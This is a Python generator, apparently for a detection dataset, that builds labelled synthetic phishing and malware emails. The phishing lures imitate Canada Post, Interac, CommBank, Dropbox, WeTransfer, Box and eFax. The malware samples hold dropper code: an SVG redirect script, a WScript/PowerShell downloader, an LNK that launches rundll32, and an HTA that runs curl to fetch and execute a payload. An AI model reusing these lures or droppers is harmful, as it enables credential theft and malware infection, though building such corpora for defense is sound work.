         "soft-failing SPF record, linking to a payment-card page on the same domain.",
         message(hdr, tleaf(html, "html", "quoted-printable", "utf-8", "utf-8")))


@build
def phish_parcel_canadapost():
    stem = "b46-phish-parcel-canadapost"
    rcpt = f"tmclean@{CA}"
    t = T("2025-12-09 21:18:30")
    user = "contact@lakeshoredentalcare.com"
    ip, helo, rdns = "162.241.61.88", "box5520.bluehost.com", "box5520.bluehost.com"
    auth = Auth("pass", user, [("pass", "lakeshoredentalcare.com", "default")], "none", "lakeshoredentalcare.com")
    top = gmail_in(rcpt, stem, t, ip, helo, rdns, auth)
    link = ("https://lakeshoredentalcare.com/wp-includes/js/crop/cp/?track=" + digits(stem + "tr", 16))
    html = f"""<html><body style="font-family:Arial,sans-serif;">
<table width="560" cellpadding="14" style="border:1px solid #ddd;"><tr><td style="background:#e11b22;color:#fff;font-size:18px;font-weight:bold;">Canada Post / Postes Canada</td></tr>
<tr><td><p><b>Your package is on hold / Votre colis est en attente</b></p>
<p>Tracking number: {digits(stem + 'tr', 16)}</p>
<p>Your international package arrived at our Regina facility but customs duties and handling fees of <b>$3.49 CAD</b>
have not been paid. Please pay the outstanding amount to release the package for delivery.</p>
<p><a href="{link}" style="background:#e11b22;color:#fff;padding:10px 22px;text-decoration:none;">Pay and release</a></p>
<p style="font-size:11px;color:#777;">&copy; Canada Post Corporation 2025</p></td></tr></table></body></html>
"""
    rcv, abuse = exim_cpanel(helo, "196.251.73.12", user, rcpt, t, stem, CA)
    hdr = join(top, dkim("lakeshoredentalcare.com", "default", CPANEL_H, stem), rcv, abuse,
               f"Date: {rfc(t)}", f"To: {rcpt}", f'From: "Canada Post" <{user}>',
               "Subject: Canada Post: Package on hold - duties unpaid",
               f"Message-ID: <{alnum(stem + 'mid', 32)}@lakeshoredentalcare.com>",
               "X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)", "MIME-Version: 1.0")
    emit(stem, "phishing", "Canada Post 'package on hold, pay $3.49 duties' lure sent with PHPMailer from a compromised dental "
         "clinic's Bluehost account, linking to a card-phishing kit in that site's wp-includes folder.",
         message(hdr, tleaf(html, "html", "quoted-printable", "utf-8", "us-ascii")))


@build
def phish_interac_lookalike():
    stem = "b46-phish-interac-lookalike"
    rcpt = f"cgagnon@{CA}"
    t = T("2024-07-16 02:41:09")
    dom = "etransfer-interac.cc"
    ip, helo, rdns = "194.26.29.118", f"mail.{dom}", "hosted-by.pfcloud.io"
    auth = Auth("pass", f"notify@{dom}", [("pass", dom, "mail")], "none", dom)
    top = gmail_in(rcpt, stem, t, ip, helo, rdns, auth)
    link = f"https://{dom}/deposit/?ref=CA{alnum(stem + 'ref', 10, 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789')}"
    html = f"""<html><body style="margin:0;background:#f0f0f0;font-family:Arial,Helvetica,sans-serif;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;">
<tr><td style="background:#fdb913;padding:14px 20px;font-weight:bold;font-size:20px;color:#000;">INTERAC e-Transfer</td></tr>
<tr><td style="padding:22px;font-size:15px;color:#222;">
<p>Hi CHANTAL GAGNON,</p>
<p>MARCUS LEE has sent you <b>$480.00 (CAD)</b> and the money is waiting for you.</p>
<p>Message: <i>Rent for August - thanks!</i></p>
<p><a href="{link}" style="background:#1a4d8c;color:#fff;padding:11px 26px;text-decoration:none;">Deposit your money</a></p>
<p>Expiry date: August 14, 2024</p>
<p style="font-size:11px;color:#666;">This email was sent to you by Interac Corp., the owner of the Interac e-Transfer service,
on behalf of MARCUS LEE. &reg; Trade-mark of Interac Corp. Used under licence.</p>
</td></tr></table></body></html>
"""
    plain = plain_from(["Hi CHANTAL GAGNON,", "MARCUS LEE has sent you $480.00 (CAD) and the money is waiting for you.",
                        f"Deposit your money: {link}", "Expiry date: August 14, 2024"])
    hdr = join(top, dkim(dom, "mail", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem, t),
               f"Received: from localhost (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTP id "
               f"{alnum(stem + 'q', 10, 'ABCDEF0123456789')}\n\tfor <{rcpt}>; {rfc(t)}",
               f"From: INTERAC e-Transfer <notify@{dom}>",
               f"To: {rcpt}",
               "Subject: INTERAC e-Transfer: MARCUS LEE sent you money.",
               f"Date: {rfc(t, 'America/Toronto')}",
               f"Message-ID: <{hx(stem + 'mid', 32)}@{dom}>",
               "MIME-Version: 1.0")
    emit(stem, "phishing", "INTERAC e-Transfer 'you've received $480' imitation from a look-alike .cc domain, the Deposit "
         "button leading to a fake bank-selection and online-banking login page.", message(hdr, alt(stem, plain, html)))


@build
def phish_commbank_mailgun():
    stem = "b46-phish-commbank-mailgun"
    rcpt = "liam.oconnor@fastmail.com"
    t = T("2025-06-24 09:10:55")
    dom = "mg.cba-alerts-secure.com"
    ip = f"159.135.{num(stem + 'a', 224, 239)}.{num(stem + 'b', 1, 250)}"
    rdns = f"m{ip.rsplit('.', 1)[1]}-{num(stem + 'm', 10, 99)}.mailgun.net"
    mailfrom = f"bounce+{hx(stem + 'bf', 6)}.{hx(stem + 'bf2', 6)}-{rcpt.replace('@', '=')}@{dom}"
    auth = Auth("pass", mailfrom, [("pass", dom, "mx"), ("pass", "mailgun.org", "mg")], "none", "cba-alerts-secure.com")
    top = fastmail_in(rcpt, stem, t, ip, rdns, rdns, auth)
    target = f"https://email.{dom}/c/{b64url(stem + 'c', 80)}"
    html = f"""<html><body style="font-family:Helvetica,Arial,sans-serif;background:#f4f4f4;">
<table width="560" align="center" cellpadding="0" cellspacing="0" style="background:#fff;">
<tr><td style="background:#ffcc00;padding:16px 22px;font-weight:bold;font-size:18px;">CommBank</td></tr>
<tr><td style="padding:22px;font-size:15px;color:#222;">
<p><b>We've blocked a sign-in to your NetBank</b></p>
<p>We noticed a NetBank log on from a new device (Windows 10, Chrome, Perth WA) on 24/06/2025 at 6:58pm. As a precaution,
we've temporarily restricted some features of your account.</p>
<p>If this wasn't you, please verify your identity now to restore full access.</p>
<p><a href="{target}" style="background:#000;color:#ffcc00;padding:11px 24px;text-decoration:none;font-weight:bold;">Verify my identity</a></p>
<p style="font-size:12px;color:#666;">Commonwealth Bank of Australia ABN 48 123 123 124 AFSL and Australian credit licence 234945</p>
</td></tr></table>
<img width="1" height="1" alt="" src="https://email.{dom}/o/{b64url(stem + 'o', 60)}"></body></html>
"""
    plain = plain_from(["We've blocked a sign-in to your NetBank",
                        "We noticed a NetBank log on from a new device. If this wasn't you, please verify your identity.",
                        f"Verify my identity: {target}"])
    hdr = join(top,
               dkim("cba-alerts-secure.com", "mx", "Content-Transfer-Encoding:Content-Type:Mime-Version:Subject:From:To:"
                    "Message-Id:Date:Sender", stem + "d1", t),
               dkim("mailgun.org", "mg", "Content-Transfer-Encoding:Content-Type:Mime-Version:Subject:From:To:Message-Id:"
                    "Date:Sender:X-Feedback-Id", stem + "d2", t),
               f"Sender: no-reply@{dom}",
               f"Received: by {hx(stem + 'h', 12)} with HTTP id {hx(stem + 'id', 24)}; {rfc(t)}",
               f"X-Mailgun-Sending-Ip: {ip}",
               f"X-Feedback-Id: {hx(stem + 'fb', 24)}:mailgun",
               "Mime-Version: 1.0",
               "Subject: NetBank: sign-in blocked - verify your identity",
               "From: CommBank <no-reply@cba-alerts-secure.com>",
               f"To: {rcpt}",
               f"Message-Id: <{digits(stem + 'mid', 14)}.{hx(stem + 'mid2', 16)}@cba-alerts-secure.com>",
               f"Date: {rfc(t)}")
    emit(stem, "phishing", "CommBank 'we've blocked a NetBank sign-in, verify your identity' lure sent through Mailgun from a "
         "look-alike bank-alert domain (aligned DKIM), the button wrapped in Mailgun click tracking.",
         message(hdr, alt(stem, plain, html)))


@build
def phish_dropbox_genuine_share():
    stem = "b46-phish-dropbox-genuine-share"
    rcpt = f"owen.davies@{UKHA}"
    t = T("2025-05-07 13:25:41")
    ip = f"162.125.{num(stem + 'a', 6, 8)}.{num(stem + 'b', 10, 250)}"
    helo = rdns = f"mail-sender-{num(stem + 'h', 10, 40)}.dropbox.com"
    mailfrom = f"bounces+{digits(stem + 'bn', 8)}@em-s.dropbox.com"
    auth = Auth("pass", mailfrom, [("pass", "dropbox.com", "2024")], "pass", "dropbox.com", "reject")
    top, bottom = m365_in("ukha", stem, later(t, 2), ip, helo, rdns, auth, ctry="US", bcl=1)
    fo = f"https://www.dropbox.com/scl/fo/{lower(stem + 'fo', 22)}/{b64url(stem + 'fo2', 22)}?rlkey={lower(stem + 'rk', 25)}&dl=0"
    who, mail = "Paul Hendry", "phendry.tenders@gmail.com"
    msg_ = ("Hi Owen, as discussed please find the planned works tender pack and pricing schedule for the 2025/26 "
            "kitchen and bathroom programme. Docs are password protected, sign in with your work email to view.")
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;padding:0;background:#f7f5f2;">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#f7f5f2;"><tr><td align="center" style="padding:32px 0;">
<table width="520" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:'Sharp Grotesk',Helvetica,Arial,sans-serif;">
<tr><td style="padding:32px 40px 8px 40px;"><img src="https://cfl.dropboxstatic.com/static/images/emails/glyph/glyph_34%402x.png" width="34" height="34" alt="Dropbox"></td></tr>
<tr><td style="padding:16px 40px;font-size:16px;line-height:24px;color:#1e1919;">
<b>{who}</b> ({mail}) invited you to view the folder "<b>SVH Planned Works Tender 2025</b>" on Dropbox.</td></tr>
<tr><td style="padding:0 40px 16px 40px;font-size:15px;line-height:22px;color:#637282;"><i>&ldquo;{esc(msg_)}&rdquo;</i></td></tr>
<tr><td style="padding:8px 40px 32px 40px;"><a href="{fo}" style="display:inline-block;background:#0061fe;color:#ffffff;font-size:15px;padding:12px 24px;border-radius:4px;text-decoration:none;">Go to folder</a></td></tr>
<tr><td style="padding:0 40px 32px 40px;font-size:14px;color:#637282;">Enjoy!<br>The Dropbox team</td></tr>
</table>
<table width="520" cellpadding="0" cellspacing="0"><tr><td style="padding:20px 40px;font-family:Helvetica,Arial,sans-serif;font-size:11px;color:#989da3;">
<a href="https://www.dropbox.com/l/AAD{b64url(stem + 'rp', 40)}/report_spam" style="color:#989da3;">Report as spam</a> &middot;
<a href="https://www.dropbox.com/l/AAB{b64url(stem + 'un', 40)}/unsubscribe" style="color:#989da3;">Unsubscribe</a><br>
&copy; 2025 Dropbox, Inc., PO Box 77767, San Francisco, CA 94107</td></tr></table>
</td></tr></table></body></html>
"""
    plain = (f"{who} ({mail}) invited you to view the folder \"SVH Planned Works Tender 2025\" on Dropbox.\n\n\"{msg_}\"\n\n"
             f"Go to folder ({fo})\n\nEnjoy!\nThe Dropbox team\n")
    hdr = join(top, dkim("dropbox.com", "2024", "from:reply-to:to:subject:mime-version:content-type:date:message-id:"
                         "list-unsubscribe", stem, t),
               f"Received: from dropbox.com (unknown)\n\tby mail-sender-{num(stem + 'h', 10, 40)}.dropbox.com (Postfix) with "
               f"ESMTP id {alnum(stem + 'q', 10, 'ABCDEF0123456789')}\n\tfor <{rcpt}>; {rfc(t)}",
               f"Date: {rfc(t)}",
               "From: Dropbox <no-reply@dropbox.com>",
               f'Reply-To: "{who}" <{mail}>',
               f"To: {rcpt}",
               f'Subject: {who} shared "SVH Planned Works Tender 2025" with you',
               f"Message-ID: <{hx(stem + 'mid', 32)}@dropbox.com>",
               "MIME-Version: 1.0",
               f"List-Unsubscribe: <https://www.dropbox.com/l/AAB{b64url(stem + 'un', 40)}/unsubscribe>",
               "X-Dropbox-Email-Type: shared_folder_invite", bottom)
    emit(stem, "phishing", "Genuine Dropbox folder-share notification (dropbox.com authenticates) sent by an attacker's free "
         "account posing as a contractor, whose 'password protected, sign in with your work email' tender pack leads "
         "to a credential page.", message(hdr, alt(stem, plain, html)))


@build
def phish_wetransfer_lookalike():
    stem = "b46-phish-wetransfer-lookalike"
    rcpt = f"jnguyen@{AU}"
    t = T("2024-06-11 03:20:02")
    dom = "wetransfer-cdn.net"
    ip, helo, rdns = "38.180.92.17", f"mta.{dom}", "38.180.92.17.static.m247.ro"
    auth = Auth("pass", f"noreply@{dom}", [("pass", dom, "s1")], "none", dom)
    top = postfix_in(rcpt, stem, t, ip, helo, rdns, auth, spam="2.7")
    link = f"https://{dom}/downloads/{hx(stem + 'dl', 32)}/{hx(stem + 'dl2', 6)}?u=jnguyen"
    files = ["Northbuild_Stage2_Structural_Drawings_RevD.pdf", "Bill_of_Quantities_Stage2.xlsx", "Site_Photos_June.zip"]
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f4f4f4;font-family:'Helvetica Neue',Arial,sans-serif;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:40px 0;">
<table width="480" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:10px;">
<tr><td style="padding:32px 40px 0 40px;font-size:26px;font-weight:bold;color:#17181a;">we</td></tr>
<tr><td style="padding:20px 40px;font-size:22px;color:#17181a;">r.keane@northbuild.com.au<br>sent you some files</td></tr>
<tr><td style="padding:0 40px;font-size:14px;color:#6a6d70;">3 files, 48.2 MB in total &middot; Will be deleted on 14 June, 2024</td></tr>
<tr><td style="padding:24px 40px;"><a href="{link}" style="display:block;text-align:center;background:#409fff;color:#fff;border-radius:25px;padding:14px;font-weight:bold;text-decoration:none;">Get your files</a></td></tr>
<tr><td style="padding:0 40px 32px 40px;font-size:13px;color:#17181a;">{'<br>'.join(files)}</td></tr>
</table>
<p style="font-size:11px;color:#999;">To make sure our emails arrive, please add noreply@wetransfer.com to your contacts.</p>
</td></tr></table></body></html>
"""
    plain = ("r.keane@northbuild.com.au sent you some files\n\n3 files, 48.2 MB in total - Will be deleted on 14 June, 2024\n\n"
             f"Get your files: {link}\n\n" + "\n".join(files) + "\n")
    hdr = join(top, dkim(dom, "s1", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem, t),
               vps_postfix_hop(dom, rcpt, t, stem).replace("mail." + dom, "mta." + dom),
               f"From: WeTransfer <noreply@{dom}>",
               f"To: {rcpt}",
               "Subject: r.keane@northbuild.com.au sent you Stage 2 drawings via WeTransfer",
               f"Date: {rfc(t)}",
               f"Message-ID: <{hx(stem + 'mid', 24)}@{dom}>",
               "MIME-Version: 1.0")
    emit(stem, "phishing", "WeTransfer 'sent you some files' imitation naming a real-looking builder contact, from a "
         "look-alike wetransfer-cdn.net domain, the Get your files button leading to a Microsoft credential page.",
         message(hdr, alt(stem, plain, html)))


@build
def phish_box_lookalike():
    stem = "b46-phish-box-lookalike"
    rcpt = f"dbarnes@{USU}"
    t = T("2026-01-20 15:44:19")
    dom = "box-secureshare.com"
    ip, helo, rdns = "172.86.117.40", f"smtp.{dom}", "172-86-117-40.rdns.vultrusercontent.com"
    auth = Auth("pass", f"notifications@{dom}", [("pass", dom, "default")], "none", dom)
    top, bottom = m365_in("usu", stem, later(t, 2), ip, helo, rdns, auth, ctry="US")
    link = f"https://app.{dom}/s/{lower(stem + 's', 32)}?email=dbarnes%40lakemont.edu"
    html = f"""<html><body style="margin:0;background:#f4f4f4;font-family:Lato,Helvetica,Arial,sans-serif;">
<table width="100%"><tr><td align="center" style="padding:30px 0;">
<table width="560" style="background:#fff;border-top:4px solid #0061d5;" cellpadding="0" cellspacing="0">
<tr><td style="padding:26px 32px 8px 32px;"><span style="font-size:28px;font-weight:bold;color:#0061d5;">box</span></td></tr>
<tr><td style="padding:8px 32px;font-size:17px;color:#222;"><b>Sponsored Programs Office</b> has shared a file with you.</td></tr>
<tr><td style="padding:8px 32px;font-size:14px;color:#555;">NSF_Award_Notice_2026-0147_Lakemont.pdf</td></tr>
<tr><td style="padding:8px 32px;font-size:14px;color:#555;"><i>"Please review the award notice and budget amendment and confirm by Thursday."</i></td></tr>
<tr><td style="padding:20px 32px 30px 32px;"><a href="{link}" style="background:#0061d5;color:#fff;padding:11px 24px;border-radius:4px;text-decoration:none;font-size:14px;">Open</a></td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#999;background:#fafafa;">Box, Inc. 900 Jefferson Ave, Redwood City, CA 94063</td></tr>
</table></td></tr></table></body></html>
"""
    plain = ("Sponsored Programs Office has shared a file with you.\n\nNSF_Award_Notice_2026-0147_Lakemont.pdf\n\n"
             f"Open: {link}\n")
    hdr = join(top, dkim(dom, "default", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem, t),
               vps_postfix_hop(dom, rcpt, t, stem).replace("mail." + dom, "smtp." + dom),
               f"From: Box <notifications@{dom}>", f"To: {rcpt}",
               "Subject: Sponsored Programs Office shared \"NSF_Award_Notice_2026-0147_Lakemont.pdf\" with you",
               f"Date: {rfc(t)}", f"Message-ID: <{hx(stem + 'mid', 32)}@{dom}>", "MIME-Version: 1.0", bottom)
    emit(stem, "phishing", "Box file-share imitation ('Sponsored Programs Office shared an NSF award notice') from a look-alike "
         "box-secureshare.com domain, linking to a university-SSO credential page pre-filled with the victim's address.",
         message(hdr, alt(stem, plain, html)))


@build
def phish_svg_attachment_redirect():
    stem = "b46-phish-svg-attachment"
    rcpt = f"bkowalski@{CA}"
    t = T("2025-02-25 17:55:30")
    sender = "ap@northgateagri.ca"
    o = m365_out("Northgate Agri - AP", sender, rcpt, "Payment Confirmation - EFT 88412", t, stem, "ca", has_attach=True)
    auth = Auth("pass", sender, [("pass", "northgateagri.ca", "selector1")], "pass", "northgateagri.ca", "none")
    top = gmail_in(rcpt, stem, o["t_out"], o["ip"], o["helo"], o["rdns"], auth)
    u = base64.b64encode(b"https://secure-docview.ru.com/pay/?id=88412&m=").decode()
    e = base64.b64encode(rcpt.encode()).decode()
    svg = f"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="820" height="420" viewBox="0 0 820 420">
<rect width="820" height="420" fill="#f3f6f9"/>
<text x="410" y="200" font-family="Segoe UI, Arial" font-size="22" text-anchor="middle" fill="#333">Payment confirmation EFT-88412</text>
<text x="410" y="240" font-family="Segoe UI, Arial" font-size="15" text-anchor="middle" fill="#777">Loading secure document viewer...</text>
<script type="text/ecmascript"><![CDATA[
(function(){{var k="{e}";var d="{u}";
var t=atob(d)+k;setTimeout(function(){{window.location.href=t;}},600);}})();
]]></script>
</svg>
"""
    paras = ["Good afternoon,", "", "Please find attached payment confirmation for the EFT processed today against your "
             "open invoices. Kindly confirm once received.", "", "Thank you,"]
    sig = ["Accounts Payable", "Northgate Agri Supply Ltd.", "Swift Current, SK"]
    body = Multi("mixed", o["mixbnd"], [
        Multi("alternative", o["bnd"], [tleaf(plain_from(paras, sig), "plain", "quoted-printable", "utf-8", "us-ascii"),
                                       tleaf(outlook_html(paras, sig), "html", "quoted-printable", "utf-8", "us-ascii")]),
        attachment("image/svg+xml", "EFT_Payment_88412.svg", svg.encode()),
    ])
    emit(stem, "phishing", "Payment-confirmation email from a compromised agri-supplier's Microsoft 365 mailbox with an .svg "
         "attachment whose embedded script redirects the browser to a credential page with the victim's address "
         "appended.", message(join(top, o["pre"], o["hdrs"]), body))


@build
def phish_efax_google_slides():
    stem = "b46-phish-efax-google-slides"
    rcpt = f"kfoster@{USU}"
    t = T("2024-05-14 14:08:36")
    dom = "tricountysurveying.com"
    sender = f"office@{dom}"
    ip = f"136.143.188.{num(stem + 'ip', 10, 99)}"
    helo = rdns = f"sender4-op-o{num(stem + 'o', 10, 19)}.zoho.com"
    auth = Auth("pass", sender, [("pass", dom, "zmail")], "pass", dom, "none")
    top, bottom = m365_in("usu", stem, later(t, 2), ip, helo, rdns, auth, ctry="US")
    link = f"https://docs.google.com/presentation/d/e/2PACX-1v{b64url(stem + 'gs', 78)}/pub?start=false&loop=false&delayms=3000"
    html = f"""<html><head><meta content="text/html;charset=UTF-8" http-equiv="Content-Type"></head><body ><div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;"><div>
<table width="520" cellpadding="10" style="border:1px solid #c9c9c9;font-family:Arial,sans-serif;">
<tr><td style="background:#d71920;color:#fff;font-size:20px;font-weight:bold;">eFax&reg;</td></tr>
<tr><td style="font-size:14px;color:#333;">You have received a <b>3 page</b> fax at {rfc(t, 'America/Chicago')[:-6]}.<br><br>
* The reference number for this fax is chi_did1-{digits(stem + 'ref', 10)}-{digits(stem + 'ref2', 10)}-12.<br><br>
Please visit the link below to view this fax document.<br><br>
<a href="{link}" style="background:#d71920;color:#fff;padding:9px 20px;text-decoration:none;">View Fax</a><br><br>
Thank you for using the eFax service!</td></tr></table>
</div><br></div></body></html>
"""
    plain = (f"You have received a 3 page fax.\n\nPlease visit the link below to view this fax document.\n\n{link}\n\n"
             "Thank you for using the eFax service!\n")
    hdr = join(top, dkim(dom, "zmail", "Date:Date:From:From:To:Message-Id:Message-Id:In-Reply-To:Subject:Subject:"
                         "MIME-Version:Content-Type:Reply-To", stem, t, i=sender, x=unix(t) + 2592000),
               f"ARC-Seal: i=1; a=rsa-sha256; t={unix(t)}; cv=none; \n\td=zohomail.com; s=zohoarc; \n\tb="
               + fold_long(b64(stem + "zas", 342) + "==", 60, 70),
               f"Received: from mail.zoho.com by mx.zohomail.com\n\twith SMTP id {unix(t)}{digits(stem + 'zid', 3)}"
               f"{digits(stem + 'zid2', 3)}.{digits(stem + 'zid3', 3)}; Tue, 14 May 2024 07:08:34 -0700 (PDT)",
               f"Date: {rfc(t, 'America/Chicago')}",
               f"From: eFax Service <{sender}>",
               f"To: \"kfoster\" <{rcpt}>",
               f"Message-Id: <{hx(stem + 'zm', 11)}.{hx(stem + 'zm2', 8)}.{digits(stem + 'zm3', 19)}@{dom}>",
               "Subject: eFax message from \"+1 (614) 720-3381\" - 3 page(s)",
               "MIME-Version: 1.0",
               "Importance: Medium",
               "User-Agent: Zoho Mail",
               "X-Mailer: Zoho Mail", bottom)
    emit(stem, "phishing", "eFax 'you have received a 3 page fax' notice sent from a compromised surveying firm's Zoho Mail "
         "account, linking to a published Google Slides deck that hosts the onward link to the credential kit.",
         message(hdr, Multi("alternative", "----=_Part_" + digits(stem + "zb", 6) + "_" + digits(stem + "zb2", 9) + "." +
                            str(unix(t)) + "000", [tleaf(plain, "plain", "7bit", "utf-8", "UTF-8"),
                                                  tleaf(html, "html", "7bit", "utf-8", "UTF-8")])))


# ---------------------------------------------------------------- droppers (inert stand-ins)

def onenote_file(embedded_name: str, payload: bytes) -> bytes:
    """A OneNote section file carrying an embedded file object, as the 2023-24 .one droppers did."""
    import struct
    header = uuid.UUID("7B5C52E4-D88C-4DA7-AEB1-5378D02996D3").bytes_le
    header += uuid.UUID(bytes=_stream("onefile", 16)).bytes_le  # guidFile
    header += b"\x00" * 16  # guidLegacyFileVersion
    header += uuid.UUID("109ADD3F-911B-49F5-A5D0-1791EDC8AED8").bytes_le  # guidFileFormat
    header = header.ljust(1024, b"\x00")
    label = (
        '<one:Page name="Document"><one:Outline><one:T>DOUBLE CLICK TO VIEW DOCUMENT</one:T></one:Outline>'
        f'<one:InsertedFile pathSource="C:\\Users\\admin\\Desktop\\{embedded_name}" preferredName="{embedded_name}"/>'
        "</one:Page>").encode("utf-16-le")
    blob = uuid.UUID("BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC").bytes_le + struct.pack("<QL", len(payload), 0) + payload
    blob += b"\x00" * ((8 - len(payload) % 8) % 8) + uuid.UUID("71FBA722-0F79-4A0B-BB13-899256426B24").bytes_le
    return header + label + b"\x00" * 64 + blob


JS_DOWNLOADER = """// invoice viewer
var _s = WScript.CreateObject("WScript.Shell");
var _u = ["h","t","t","p","s",":","/","/","c","d","n","-","d","o","c","s",".","t","o","p","/","i","n","v","/","u","p","d"].join("");
var _c = "powershell -w hidden -ep bypass -c \\"$p=$env:TEMP+'\\\\upd.dll';iwr '" + _u + "' -OutFile $p;rundll32 $p,Start\\"";
_s.Run(_c, 0, false);
"""


@build
def phish_zip_js_invoice():
    stem = "b46-phish-zip-js-invoice"
    rcpt = f"accounts@{AU}"
    t = T("2024-10-29 21:48:02")
    frm_dom = "cbsteel.com.au"
    ip, helo, rdns = "189.203.71.144", "[189.203.71.144]", "dsl-189-203-71-144-dyn.prod-infinitum.com.mx"
    auth = Auth("softfail", f"accounts@{frm_dom}", [], "fail", frm_dom, "none")
    top = postfix_in(rcpt, stem, t, ip, helo, rdns, auth, spam="4.6")
    z = F.zip_archive([("Invoice_10487_CBSteel.js", JS_DOWNLOADER.encode())])
    plain = ("Hi,\n\nPlease find attached overdue invoice 10487 for steel supply to the Parramatta Rd project. Payment was "
             "due on 15/10. Could you please advise when we can expect payment.\n\nThe invoice is zipped due to size, "
             "open it on a Windows PC.\n\nRegards\nAccounts Receivable\nCB Steel Pty Ltd\n")
    bnd = "----=_NextPart_000_" + hx(stem + "b", 4, True) + "_" + hx(stem + "b2", 8, True) + "." + hx(stem + "b3", 8, True)
    hdr = join(top,
               f"From: \"CB Steel Accounts\" <accounts@{frm_dom}>",
               f"To: <{rcpt}>",
               "Subject: Overdue invoice 10487 - second notice",
               f"Date: {rfc(t, 'Australia/Sydney')}",
               f"Message-ID: <{hx(stem + 'mid', 12, True)}${hx(stem + 'mid2', 8, True)}$@{frm_dom}>",
               "MIME-Version: 1.0",
               "X-Mailer: Microsoft Outlook 16.0",
               "Thread-Index: " + thread_index(stem),
               "Content-Language: en-au")
    body = Multi("mixed", bnd, [
        tleaf(plain, "plain", "7bit", "us-ascii", "us-ascii"),
        attachment("application/x-zip-compressed", "Invoice_10487.zip", z),
    ])
    emit(stem, "malware", "Overdue-invoice email spoofing a real steel supplier from a residential Mexican IP (SPF softfail, "
         "DMARC fail with p=none) carrying a zip with a WScript .js downloader that fetches and runs a DLL via PowerShell.",
         message(hdr, body))


@build
def phish_iso_lnk_purchase_order():
    stem = "b46-phish-iso-lnk-po"
    rcpt = f"sarah.whitfield@{UKHA}"
    t = T("2024-04-17 08:12:27")
    user = "sales@fenlandfixings.co.uk"
    host = "cp3.krystal-hosting.co.uk"
    ip, rdns = "77.72.1.43", host
    auth = Auth("pass", user, [("pass", "fenlandfixings.co.uk", "default")], "none", "fenlandfixings.co.uk")
    top, bottom = m365_in("ukha", stem, later(t, 3), ip, host, rdns, auth, ctry="GB")
    rcv, abuse = exim_cpanel(host, "154.61.71.50", user, rcpt, t, stem, UKHA)
    lnk = F.lnk_shortcut("C:\\Windows\\System32\\cmd.exe",
                         "/c start /min rundll32.exe data\\po_view.dll,DllRegisterServer & start PO-77120.pdf")
    iso = F.iso_image([("PO-77120.pdf.lnk", lnk), ("po_view.dll", F.pe_stub())], "PO77120")
    paras = ["Good morning,", "", "Please find attached purchase order PO-77120 and delivery schedule for the fixings "
             "requested by your repairs team. Kindly confirm pricing and expected delivery dates.", "",
             "Many thanks,", "Dan Whitby", "Sales Office | Fenland Fixings Ltd"]
    rcv_hdr = join(top, rcv, dkim("fenlandfixings.co.uk", "default", CPANEL_H, stem), abuse,
                   f"Date: {rfc(t, 'Europe/London')}", f"From: Dan Whitby <{user}>", f"To: {rcpt}",
                   "Subject: Purchase Order PO-77120 / confirm delivery", f"Message-ID: <{hx(stem + 'mid', 32)}@fenlandfixings.co.uk>",
                   "User-Agent: Roundcube Webmail/1.6.5", "MIME-Version: 1.0", bottom)
    body = Multi("mixed", "=_" + hx(stem + "bnd", 32), [
        Multi("alternative", "=_" + hx(stem + "bnd2", 32), [
            tleaf(plain_from(paras), "plain", "quoted-printable", "utf-8", "UTF-8"),
            tleaf("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-8\" /></head><body "
                  "style='font-size: 10pt; font-family: Verdana,Geneva,sans-serif'>\n"
                  + "".join(f"<p>{p}</p>\n" if p else "" for p in paras) + "</body></html>\n", "html", "quoted-printable",
                  "utf-8", "UTF-8")]),
        attachment("application/x-iso9660-image", "PO-77120.iso", iso),
    ])
    emit(stem, "malware", "Purchase-order email from a compromised fixings supplier's cPanel/Roundcube mailbox carrying an ISO "
         "disc image with a PO-77120.pdf.lnk shortcut that runs a bundled DLL through rundll32.", message(rcv_hdr, body))


@build
def phish_onenote_dropper():
    stem = "b46-phish-onenote-w9"
    rcpt = f"praman@{USU}"
    t = T("2024-02-07 16:31:52")
    sender = "jmartinez@summitlabsupply.com"
    o = m365_out("Jorge Martinez", sender, f"Priya Raman <{rcpt}>", "RE: W-9 and vendor setup form", t, stem, "us",
                 has_attach=True, in_reply_to=ref_id("usu", stem), references=ref_id("usu", stem))
    auth = Auth("pass", sender, [("pass", "summitlabsupply.com", "selector1")], "pass", "summitlabsupply.com", "none")
    top, bottom = m365_in("usu", stem, o["t_out"], o["ip"], o["helo"], o["rdns"], auth, ctry="US")
    hta = (b'<html><head><HTA:APPLICATION WINDOWSTATE="minimize" SHOWINTASKBAR="no"/>\r\n'
           b'<script language="VBScript">\r\nSet s = CreateObject("WScript.Shell")\r\n'
           b's.Run "cmd /c curl -s -o %TEMP%\\\\w9.dat https://summit-cdn-files.com/w9.dat && rundll32 %TEMP%\\\\w9.dat,Wind", 0\r\n'
           b"self.close\r\n</script></head><body></body></html>\r\n")
    one = onenote_file("W9_Form_2024.hta", hta)
    quoted = ('<div id="appendonsend"></div><hr style="display:inline-block;width:98%" tabindex="-1">'
              '<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000">'
              f"<b>From:</b> Priya Raman &lt;{rcpt}&gt;<br><b>Sent:</b> Tuesday, February 6, 2024 10:14 AM<br>"
              f"<b>To:</b> Jorge Martinez &lt;{sender}&gt;<br><b>Subject:</b> W-9 and vendor setup form</font>"
              "<div>&nbsp;</div></div><div><p>Hi Jorge,<br>To get Summit set up as a vendor for the chemistry stockroom "
